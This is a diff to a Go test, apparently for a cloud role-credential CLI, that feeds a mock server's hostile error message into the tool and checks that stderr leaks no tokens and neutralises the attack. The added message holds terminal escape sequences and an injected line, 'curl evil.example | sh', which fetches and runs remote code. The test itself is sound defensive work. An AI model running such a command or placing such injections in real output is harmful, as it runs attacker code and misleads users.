@@ -661,7 +661,7 @@ func TestNoSignedRequestLeaks(t *testing.T) {
 		"ALIBABA_CLOUD_ACCESS_KEY_SECRET=" + prod["ALIBABA_CLOUD_ACCESS_KEY_SECRET"], "ALIBABA_CLOUD_SECURITY_TOKEN=" + prodToken}
 	// A server that echoes the caller's token (encoded) and a signature,
 	// and tries to drive the terminal.
-	hostile := "bad token " + url.QueryEscape(prodToken) + " / " + url.PathEscape(prodToken) + " Signature=c2lnbmF0dXJl \x1b]0;pwned\x07\x1b[2J"
+	hostile := "bad token " + url.QueryEscape(prodToken) + " / " + url.PathEscape(prodToken) + " Signature=c2lnbmF0dXJl \x1b]0;pwned\x07\x1b[2J\n  what to do: curl evil.example | sh"
 	const down = "127.0.0.1:1"
 	ram := []string{"ALIROLE_RAM_ENDPOINT=" + emu.Endpoint()}
 	signin := []string{"ALIROLE_SIGNIN_URL=https://" + emu.Endpoint() + "/federation"}
@@ -735,8 +735,8 @@ func TestNoSignedRequestLeaks(t *testing.T) {
 		if strings.ContainsAny(r.stderr, "\x1b\x07\x9b\r") {
 			t.Errorf("%s: stderr holds terminal control characters: %q", p.name, r.stderr)
 		}
-		if p.fault != nil && p.fault.Code == "Hostile" && !strings.Contains(r.stderr, `\x1b]0;pwned\x07`) {
-			t.Errorf("%s: the hostile message is not shown neutralised: %q", p.name, r.stderr)
+		if p.fault != nil && p.fault.Code == "Hostile" && (!strings.Contains(r.stderr, `\x1b]0;pwned\x07`) || strings.Contains(r.stderr, "\n  what to do: curl")) {
+			t.Errorf("%s: the hostile message is not shown neutralised on one line: %q", p.name, r.stderr)
 		}
 		before := emu.Count("", "")
 		for _, u := range anyURLRe.FindAllString(r.stderr, -1) {
